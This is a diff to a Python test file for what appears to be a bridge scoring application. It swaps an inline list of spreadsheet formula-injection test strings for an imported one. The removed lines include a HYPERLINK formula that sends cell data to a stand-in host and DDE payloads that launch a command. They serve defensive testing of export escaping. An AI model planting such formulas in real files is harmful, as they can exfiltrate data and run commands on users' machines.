@@ -38,6 +38,7 @@ from scoring import ScoringError
 from scoring.deal import Deal
 from scoring.movements import Movement, MovementError, generate
 from tests.conftest import make_event
+from tests.duplicate.test_exports import FORMULAS
 
 from .conftest import tried
 from .helpers import board_data, db_counts, db_snapshot, plays_at, rolled_back
@@ -952,15 +953,7 @@ def test_nul_in_pair_names_is_a_form_error(world, field, value):
 
 # --- Spreadsheet formulas, a table link's clear, the table links page's hidden fields ----------------------
 
-FORMULA_NAMES = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "-2+3+cmd|' /C calc'!A0",
-    "=1+1",
-    "#N/A",
-    "-30",
-]
+FORMULA_NAMES = [*FORMULAS, "-30"]  # the exports tests' formulas, and text that reads as a number
 
 
 def _csv_number(cell: str) -> bool:
